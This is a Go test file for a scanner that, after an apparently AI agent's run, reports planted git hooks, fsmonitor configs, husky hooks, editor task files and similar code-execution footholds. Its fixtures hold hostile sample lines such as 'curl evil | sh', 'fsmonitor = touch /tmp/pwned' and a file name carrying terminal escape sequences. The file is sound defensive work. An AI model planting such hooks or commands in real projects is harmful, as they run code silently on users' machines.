package workscan

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func write(t testing.TB, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// scanText runs the scan and joins its findings; the scan over a tree
// read now (as the prewalk would have, after the changes) must find the
// same.
func scanText(t *testing.T, workdir string, started time.Time, skip map[string]bool, before Before) string {
	t.Helper()
	join := func(fs []Finding) string {
		var b strings.Builder
		for _, f := range fs {
			b.WriteString(f.Text + "\n")
		}
		return b.String()
	}
	fullFindings, _ := Scan(workdir, started, skip, before, nil, nil, nil)
	full := join(fullFindings)
	if tr := readTree(workdir, nil, nil, nil); !tr.complete {
		t.Errorf("the tree of %s was not read whole", workdir)
	} else if cached, _ := Scan(workdir, started, skip, before, nil, tr, nil); join(cached) != full {
		t.Errorf("the scan over the recorded tree differs from the full one:\n%s\nfull:\n%s", join(cached), full)
	}
	return full
}

// The scan after a run names a planted repository's hook and config, a
// protected tool file in a subdirectory and the files other tools run
// code from at any depth, node_modules included, but not git's samples,
// ordinary files or what predates the run.
func TestScan(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	old := filepath.Join(root, "vendor", "lib", ".git")
	write(t, filepath.Join(old, "config"), "[core]\n")
	write(t, filepath.Join(root, "opencode.jsonc"), "{}") // the user's own
	os.MkdirAll(filepath.Join(root, ".husky"), 0o755)
	time.Sleep(20 * time.Millisecond)
	started := time.Now()
	write(t, filepath.Join(root, ".pi", "extensions", "x.ts"), "export default () => {}")
	write(t, filepath.Join(root, "opencode.json"), "{}")
	write(t, filepath.Join(root, ".husky", "pre-commit"), "#!/bin/sh\n")
	write(t, filepath.Join(root, "pkg", ".devcontainer", "devcontainer.json"), "{}")
	write(t, filepath.Join(root, "pkg", "app.code-workspace"), "{}")
	write(t, filepath.Join(root, "pkg", "main.go"), "package main")
	sub := filepath.Join(root, "sub", ".git")
	write(t, filepath.Join(sub, "config"), "[core]\n\tfsmonitor = x\n")
	write(t, filepath.Join(sub, "hooks", "post-checkout"), "#!/bin/sh\n")
	write(t, filepath.Join(sub, "hooks", "pre-commit.sample"), "#!/bin/sh\n")
	write(t, filepath.Join(root, "pkg", ".vscode", "tasks.json"), "{}")
	// A repository planted in node_modules (and registered in the
	// project's index, its fsmonitor runs on the user's git status).
	nm := filepath.Join(root, "node_modules", "x", ".git")
	write(t, filepath.Join(nm, "config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n")
	got := scanText(t, root, started, nil, nil)
	for _, want := range []string{filepath.Join(sub, "config"), filepath.Join(sub, "hooks", "post-checkout"), filepath.Join(root, "pkg", ".vscode", "tasks.json"),
		"files other tools run code from", filepath.Join(root, ".pi", "extensions", "x.ts"), filepath.Join(root, "opencode.json"),
		filepath.Join(root, ".husky", "pre-commit"), filepath.Join(root, "pkg", ".devcontainer", "devcontainer.json"), filepath.Join(root, "pkg", "app.code-workspace"),
		filepath.Join(nm, "config")} {
		if !strings.Contains(got, want) {
			t.Errorf("%s not reported: %s", want, got)
		}
	}
	for _, not := range []string{"sample", old, "opencode.jsonc", "main.go"} {
		if strings.Contains(got, not) {
			t.Errorf("%q reported: %s", not, got)
		}
	}
	// What the ledger's audit speaks for, and the run's placeholders, are
	// not reported by the scan.
	if got := scanText(t, root, started, map[string]bool{filepath.Join(sub, "config"): true}, nil); strings.Contains(got, filepath.Join(sub, "config")) {
		t.Errorf("a skipped path reported: %s", got)
	}
}

// Names the agent chose are quoted: a name with a carriage return or an
// escape sequence cannot rewrite the warning line.
func TestScanQuotesNames(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	started := time.Now().Add(-time.Second)
	evil := "x\r\x1b[2Kok"
	write(t, filepath.Join(root, evil, ".git", "config"), "[core]\n")
	got := scanText(t, root, started, nil, nil)
	if strings.ContainsAny(got, "\r\x1b") {
		t.Errorf("a control character reached the message: %q", got)
	}
	if !strings.Contains(got, `\r\x1b[2Kok`) {
		t.Errorf("the name is not shown quoted: %q", got)
	}
}

// A directory the scan cannot read is reported, not passed over (git,
// which can enter a directory it cannot list, would still find what it
// holds). Root reads anything, so the case needs an ordinary user.
func TestScanReportsUnreadable(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root reads a mode-0111 directory anyway (the e2e suite runs this as an ordinary user)")
	}
	root, _ := filepath.EvalSymlinks(t.TempDir())
	started := time.Now().Add(-time.Second)
	hidden := filepath.Join(root, "node_modules", "h")
	write(t, filepath.Join(hidden, ".git", "config"), "[core]\n\tfsmonitor = x\n")
	if err := os.Chmod(hidden, 0o111); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(hidden, 0o755)
	got := scanText(t, root, started, nil, nil)
	if !strings.Contains(got, hidden) || !strings.Contains(got, "could not read") {
		t.Errorf("an unreadable directory is not reported: %q", got)
	}
}

// What changed at the workdir's top just before the run (fingerprinted as
// it starts) is not reported while unchanged; a change by the run is, even
// of the same file.
func TestRecentBeforeNotPlanted(t *testing.T) {
	for _, change := range []string{"", "config", "hook", "husky"} {
		t.Run("change="+change, func(t *testing.T) {
			root, _ := filepath.EvalSymlinks(t.TempDir())
			git := filepath.Join(root, ".git")
			os.MkdirAll(filepath.Join(git, "hooks"), 0o755)
			config := filepath.Join(git, "config")
			write(t, config, "[core]\n\tbare = false\n")
			husky := filepath.Join(root, ".husky", "pre-commit")
			write(t, husky, "#!/bin/sh\nnpm test\n")
			// The run starts just after those writes (however late
			// this test was scheduled: measured from their ctime).
			fi, err := os.Lstat(config)
			if err != nil {
				t.Fatal(err)
			}
			started := Ctime(fi).Add(time.Millisecond)
			before := RecentBefore(root, started)
			if _, ok := before[config]; !ok {
				t.Fatalf("%s, written just now, is not in the snapshot (the test proves nothing): %v", config, before)
			}
			var want string
			switch change {
			case "config":
				want = config
				write(t, config, "[core]\n\tfsmon = /tmp/x\n")
			case "hook":
				want = filepath.Join(git, "hooks", "post-checkout")
				write(t, want, "#!/bin/sh\n")
			case "husky":
				want = husky
				write(t, husky, "#!/bin/sh\ncurl x|sh\n")
			}
			got := scanText(t, root, started, nil, before)
			if want == "" && got != "" {
				t.Errorf("a run that changed nothing was reported: %s", got)
			}
			if want != "" && !strings.Contains(got, want) {
				t.Errorf("%s, changed by the run, not reported: %q", want, got)
			}
			if without := scanText(t, root, started, nil, nil); !strings.Contains(without, config) {
				t.Errorf("without the snapshot %s is not reported (the test proves nothing): %q", config, without)
			}
		})
	}
}

// TestScanFoldsCase: on a filesystem that ignores case, a tool opening
// .envrc, .vscode or .git opens .ENVRC, .vſcode (ſ folds to s) or .GIT:
// the scan names those as it names the lower-case ones.
func TestScanFoldsCase(t *testing.T) {
	for name, want := range map[string]string{".ENVRC": ".envrc", ".vſcode": ".vscode", ".Git": ".git", "K": "k", "Lefthook.YML": "lefthook.yml", ".envrc": ".envrc", "ÄÖ": "äö"} {
		if got := foldName(name); got != want || !strings.EqualFold(got, name) || foldName(got) != got {
			t.Errorf("foldName(%q) = %q, want %q", name, got, want)
		}
	}
	root, _ := filepath.EvalSymlinks(t.TempDir())
	started := time.Now().Add(-time.Second)
	write(t, filepath.Join(root, "a", ".ENVRC"), "curl evil | sh\n")
	write(t, filepath.Join(root, "b", ".vſcode", "tasks.json"), "{}")
	write(t, filepath.Join(root, "c", ".GIT", "config"), "[core]\n\tfsmonitor = true\n")
	write(t, filepath.Join(root, "d", ".Husky", "pre-commit"), "curl evil | sh\n")
	got := scanText(t, root, started, nil, nil)
	for _, want := range []string{"a/.ENVRC", "b/.vſcode", "c/.GIT/config", "d/.Husky"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is not reported:\n%s", want, got)
		}
	}
}
